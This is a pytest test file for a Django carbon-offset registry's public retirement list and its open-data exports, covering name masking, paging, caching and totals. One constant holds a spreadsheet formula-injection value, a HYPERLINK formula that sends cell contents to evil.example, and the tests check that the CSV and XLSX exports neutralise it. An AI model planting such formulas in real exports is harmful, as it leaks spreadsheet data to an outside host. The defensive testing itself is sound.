"""The public side of retirements: the list, the `retirements` open-data dataset (JSON, CSV, XLSX), the
home page's figure and chart, and the project page's retired tonnes. Persons are masked everywhere."""

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone

from offsets import ledger, public, retirements
from offsets.models import BeneficiaryKind, Issuance, Retirement
from tests.factories import admin_of, identity_number, make_organisation, reviewers
from tests.offsets.ledger_world import covered_emitter, give, holder_account

pytestmark = pytest.mark.django_db

EN = {"accept-language": "en"}
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"点击")'


@pytest.fixture
def people():
    return reviewers()


@pytest.fixture
def source(people):
    return holder_account(people)


def retire(account, quantity, **kwargs):
    values = {
        "beneficiary_kind": BeneficiaryKind.EVENT,
        "beneficiary": "2023 武汉马拉松",
        "purpose": "赛事碳中和",
    }
    return retirements.retire_voluntarily(
        account, by=admin_of(account.organisation), quantity=quantity, **{**values, **kwargs}
    )


@pytest.fixture
def world(people, source):
    """A household's voluntary retirement for a person, a confirmed 2022 offset, one awaiting
    confirmation, and a cancellation."""
    household = make_organisation(kind="household", name="王小明", identifier=identity_number())
    give(people, source, ledger.open_account(household), 5)
    personal = retire(
        household.account, 3, beneficiary_kind=BeneficiaryKind.PERSON, beneficiary="张三丰", purpose=HOSTILE
    )
    emitter, account = covered_emitter(people)
    give(people, source, account, 10)
    offset = retirements.request_offset(account, by=admin_of(emitter), year=2022, quantity=4)
    offset = retirements.confirm_offset(offset, by=people["registry_admin"])
    pending = retirements.request_offset(account, by=admin_of(emitter), year=2022, quantity=2)
    cancellation = retirements.cancel_credits(
        source, by=people["registry_admin"], quantity=1, reasons="Registered twice (internal note)."
    )
    return {"personal": personal, "offset": offset, "pending": pending, "cancellation": cancellation}


def test_the_list_shows_who_how_many_what_for_and_the_serials(client, world):
    response = client.get(reverse("offsets:public_retirements"), headers=EN)
    assert response.status_code == 200
    text = response.text
    for done in ("personal", "offset", "cancellation"):
        assert world[done].reference in text
    assert world["pending"].reference not in text  # awaiting confirmation: not retired yet
    assert world["personal"].serials.split()[0] in text
    assert "Compliance year 2022" in text
    assert "王**" in text and "张**" in text
    assert "王小明" not in text and "张三丰" not in text
    assert "internal note" not in text  # a cancellation's reasons stay with the Bureau
    assert [r.reference for r in response.context["page"].rows] == [
        world["cancellation"].reference,
        world["offset"].reference,
        world["personal"].reference,
    ]


def test_the_list_filters_by_year_and_kind(client, world):
    url = reverse("offsets:public_retirements")
    Retirement.objects.filter(pk=world["offset"].pk).update(
        retired_at=timezone.make_aware(datetime(2023, 3, 1, 10))
    )
    rows = client.get(url, {"kind": "compliance"}).context["page"].rows
    assert [r.reference for r in rows] == [world["offset"].reference]
    rows = client.get(url, {"year": "2023"}).context["page"].rows
    assert [r.reference for r in rows] == [world["offset"].reference]
    assert client.get(url, {"year": "2023", "kind": "voluntary"}).context["page"].rows == []
    for bad in ({"year": "23"}, {"kind": "gift"}, {"after": "x"}):
        assert client.get(url, bad).status_code == 400, bad


def test_the_list_is_key_paged(client, source):
    made = [retire(source, 1).reference for _ in range(27)]
    url = reverse("offsets:public_retirements")
    first = client.get(url).context["page"]
    assert [r.reference for r in first.rows] == made[::-1][:25] and first.next_key
    second = client.get(url, {"after": first.next_key}).context["page"]
    assert [r.reference for r in second.rows] == made[::-1][25:] and second.is_last
    assert [r.reference for r in client.get(url, {"page": "last"}).context["page"].rows] == made[::-1][2:]


def test_the_list_is_cached_for_anonymous_visitors_only(client, source):
    url = reverse("offsets:public_retirements")
    first = retire(source, 1)
    assert first.reference in client.get(url).text
    later = retire(source, 1)
    assert later.reference not in client.get(url).text  # the cached page, for a minute
    client.force_login(admin_of(source.organisation))
    response = client.get(url)
    assert later.reference in response.text and "private" in response["Cache-Control"]


def _csv(client, name: str) -> list[dict]:
    response = client.get(reverse("offsets:open_data_file", args=[name, "csv"]))
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_dataset_in_json_csv_and_xlsx(client, world):
    rows = client.get(reverse("offsets:open_data_file", args=["retirements", "json"])).json()["rows"]
    assert [r["reference"] for r in rows] == [
        world[k].reference for k in ("personal", "offset", "cancellation")
    ]
    personal, offset, cancellation = rows
    assert (personal["holder"], personal["beneficiary"], personal["purpose"]) == ("王**", "张**", HOSTILE)
    assert personal["kind"] == "voluntary" and personal["quantity_t"] == 3
    assert personal["serials"] == " ".join(world["personal"].serials.split())
    assert personal["units"] == " ".join(f"{a}-{b}" for a, b in world["personal"].ranges)
    assert (offset["kind"], offset["compliance_year"], offset["quantity_t"]) == ("compliance", 2022, 4)
    assert cancellation["kind"] == "cancellation" and cancellation["purpose"] == ""
    assert personal["retired_on"] == timezone.localdate(world["personal"].retired_at).isoformat()

    by_reference = {r["reference"]: r for r in _csv(client, "retirements")}
    assert set(by_reference) == {r["reference"] for r in rows}
    assert by_reference[world["personal"].reference]["purpose"] == "'" + HOSTILE  # no live formula
    assert by_reference[world["personal"].reference]["holder"] == "王**"

    response = client.get(reverse("offsets:open_data_xlsx"))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content))["retirements"]
    header = [c.value for c in sheet[1]]
    values = [dict(zip(header, (c for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert [v["reference"].value for v in values] == [r["reference"] for r in rows]
    cell = values[0]["purpose"]
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    assert not any(
        "王小明" in str(v.value) or "张三丰" in str(v.value) for row in values for v in row.values()
    )


def test_the_open_data_page_lists_the_dataset(client):
    text = client.get(reverse("offsets:open_data"), headers=EN).text
    assert "retirements.json" in text and "retirements.csv" in text


def test_home_figure_and_chart_are_dated_by_the_retirement(client, world):
    Retirement.objects.filter(pk=world["personal"].pk).update(
        retired_at=timezone.make_aware(datetime(2021, 12, 31, 23, 30))  # Asia/Shanghai: still 2021
    )
    figures, charts = public.figures(), public.charts()
    assert figures["retired"] == 3 + 4  # retirements proper; a cancellation retires nothing
    this_year = str(timezone.localdate(world["offset"].retired_at).year)
    assert [(bar["label"], bar["value"]) for bar in charts["retired"]] == [("2021", 3), (this_year, 4)]
    response = client.get(reverse("registry:home"), headers=EN)
    assert response.context["figures"]["retired"] == 7
    assert reverse("offsets:public_retirements") in response.text


def test_the_project_page_shows_how_much_of_each_issuance_is_retired(client, world, source):
    issuance = Issuance.objects.get(account=source)
    response = client.get(reverse("offsets:project", args=[issuance.project.code]), headers=EN)
    shown = response.context["issuances"][0]
    assert (shown.retired_t, shown.cancelled_t) == (3 + 4, 1)
    assert "7 t retired" in response.text and "1 t cancelled" in response.text


def test_the_count_and_tonnes_stop_at_the_cap_and_the_years_run_first_to_last(client, source, monkeypatch):
    """At 100,000 retirements the page must not count and sum them all: one query over at most 201."""
    made = [retire(source, quantity) for quantity in (1, 2, 3)]
    Retirement.objects.filter(pk=made[0].pk).update(retired_at=timezone.make_aware(datetime(2021, 5, 1, 10)))
    url = reverse("offsets:public_retirements")
    response = client.get(url, headers=EN)
    assert (response.context["total"], response.context["tonnes"]) == (3, 6)
    assert "3 retirements, 6 t" in response.text
    assert response.context["years"] == list(range(timezone.localdate().year, 2020, -1))
    assert client.get(url, {"year": "2021"}, headers=EN).context["total"] == 1
    cache.clear()
    monkeypatch.setattr(public, "COUNT_CAP", 2)
    response = client.get(url, headers=EN)
    assert "More than 2 retirements" in response.text and "6 t" not in response.text
    assert len(response.context["page"].rows) == 3
